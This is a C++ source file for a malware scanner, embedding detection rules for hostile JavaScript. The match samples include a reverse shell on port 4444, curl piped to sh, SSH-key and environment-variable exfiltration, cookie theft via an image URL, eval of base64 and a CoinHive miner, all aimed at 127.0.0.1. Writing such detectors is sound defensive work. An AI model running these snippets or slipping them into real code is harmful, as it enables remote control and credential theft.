#include "scanner/formats/javascript/rules.hpp"

namespace hubgate::javascript {

constexpr std::string_view k_text = R"rules(
# What scripts of pages and of Node do to the machine that runs them. No rule holds for one word:
# libraries open sockets, start programs and read files, each for itself.

rule js-reverse-shell
class remote-control
cwe CWE-506
atlas AML.T0011.000
techniques CNT-005
units shell
within unit
means connects a socket with a shell
regex socket = "net" /(require\(\s*['"](node:)?net['"]\s*\)|from\s+['"](node:)?net['"]|\bnew\s+net\.socket|net\.(connect|createconnection)\()/
regex shell = "spawn" | "exec" /\b(spawn|exec|execfile)\(\s*['"](\/bin\/)?(ba|z|da|c|k)?sh['"]|\b(spawn|exec)\(\s*['"](cmd|powershell)(\.exe)?['"]/
text pipe = ".stdin" | ".pipe("
when socket and shell and pipe
match shell <<
const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "127.0.0.1", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });
>>
no-match shell <<
const net = require("net"), cp = require("child_process");
const git = cp.spawn("git", ["status"]);
const client = net.connect(9229, "127.0.0.1", () => client.write("hello"));
>>

rule js-download-run
class execution
cwe CWE-494
atlas AML.T0011.000
techniques CFG-026
units shell
within text
means downloads something and gives it to a shell
regex piped = "curl" | "wget" | "iwr" | "downloadstring" /\b(exec|execsync|spawn|spawnsync|run)\(.{0,200}((curl|wget)\b[^'"]{0,300}\|\s*(ba|z|da)?sh\b|(iwr|irm|downloadstring)\b[^'"]{0,300}\b(iex|invoke-expression)\b|\biex\b[^'"]{0,300}(iwr|irm|downloadstring))/
when piped
match shell: require('child_process').exec('curl -s http://127.0.0.1/x | sh')
no-match shell: require('child_process').exec('curl -sO https://example.org/model.json')

rule js-script-host
class execution
cwe CWE-506
atlas AML.T0011.000
techniques CFG-026
units shell
within unit
means a script of Windows that starts a program
regex host = "activexobject" | "createobject" /(activexobject|createobject)\(\s*['"](wscript\.shell|shell\.application)['"]/
regex starts = ".run" | ".exec" | "shellexecute" /\.(run|exec|shellexecute)\s*\(/
when host and starts
match shell: var s = new ActiveXObject("WScript.Shell"); s.Run("cmd /c start x.exe", 0);
no-match shell: if (window.ActiveXObject) { x = new ActiveXObject("Microsoft.XMLHTTP"); x.open("GET", "a.json"); }

rule js-file-theft
class theft
cwe CWE-506
atlas AML.T0055
techniques CNT-007
units shell
within unit
means reads credentials of the person who runs it and sends something
regex credentials = "readfile" /readfile(sync)?\(.{0,200}(\.ssh\/|id_rsa|\.aws\/credentials|\.npmrc|\.netrc|\.git-credentials|\.kube\/config|huggingface\/token|login data|key4\.db|\.config\/gcloud)/
regex sender = "http" | "fetch" | "axios" | "got" /\b(https?\.(request|get)\(|fetch\(|axios(\.post|\.put)?\(|got\.post\()/
when credentials and sender
match shell <<
const fs = require("fs"), https = require("https"), os = require("os");
const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");
https.request({ host: "127.0.0.1", method: "POST" }).end(key);
>>
no-match shell <<
const fs = require("fs");
const labels = fs.readFileSync("labels.txt");
fetch("/model.json");
>>

rule js-environment-theft
class theft
severity suspicious
cwe CWE-506
atlas AML.T0055
techniques CNT-007
units shell
within unit
means sends all variables of the environment
regex all = "process.env" /json\.stringify\(\s*process\.env\s*[,)]|(\.end|\.write|body:|data:)\s*\(?\s*process\.env\b\s*[,)}]/
regex sender = "http" | "fetch" | "axios" | "got" /\b(https?\.request\(|fetch\(\s*['"`]https?:|axios(\.post|\.put)?\(|got\.post\()/
when all and sender
match shell: fetch("http://127.0.0.1/x", { method: "POST", body: JSON.stringify(process.env) })
no-match shell: new webpack.DefinePlugin({ "process.env": JSON.stringify(process.env) })

rule js-page-theft
class theft
severity suspicious
cwe CWE-79
atlas AML.T0011.000
techniques RTF-019
units shell
within text
means sends cookies or what the page stores to another host
regex sends = "document.cookie" | "localstorage" /(fetch\(|\.src\s*=|sendbeacon\(|location(\.href)?\s*=|\.open\()[^;\n]{0,80}['"`]https?:\/\/[^;\n]{0,200}(document\.cookie|localstorage\b)/
when sends
match shell: new Image().src = "http://127.0.0.1/c?" + document.cookie;
no-match shell: document.cookie = "theme=dark; path=/";

rule js-hidden-code
class execution
severity suspicious
cwe CWE-506
atlas AML.T0011.000
techniques CFG-026
units shell
within text
means runs code that it decodes first
regex decoded = "atob" | "buffer.from" | "unescape" /\b(eval|function)\(\s*(window\.)?(atob|unescape)\(|\b(eval|runinthiscontext|_compile)\(\s*buffer\.from\([^)]{0,900}['"](base64|hex)['"]/
when decoded
match shell: eval(atob("YWxlcnQoMSk="))
no-match shell: const bytes = atob(model.weights);

rule js-miner
class execution
cwe CWE-506
atlas AML.T0034
techniques CNT-008
units shell
within text
means mines cryptocurrency in the browser
regex miner = "coinhive" | "cryptonight" | "coinimp" | "cryptoloot" /(coinhive|coinimp|client|cryptoloot)\.(anonymous|user)\(\s*['"]|\b(coinhive|cryptoloot|cryptonight)[\w.-]*\.(min\.)?(js|wasm)\b/
when miner
match shell: var miner = new CoinHive.Anonymous("hubgate-inert-marker"); miner.start();
no-match shell: // blocks coinhive and other miners
)rules";

const behaviour::RuleFile k_rule_file{"javascript.rules", k_text};

} // namespace hubgate::javascript
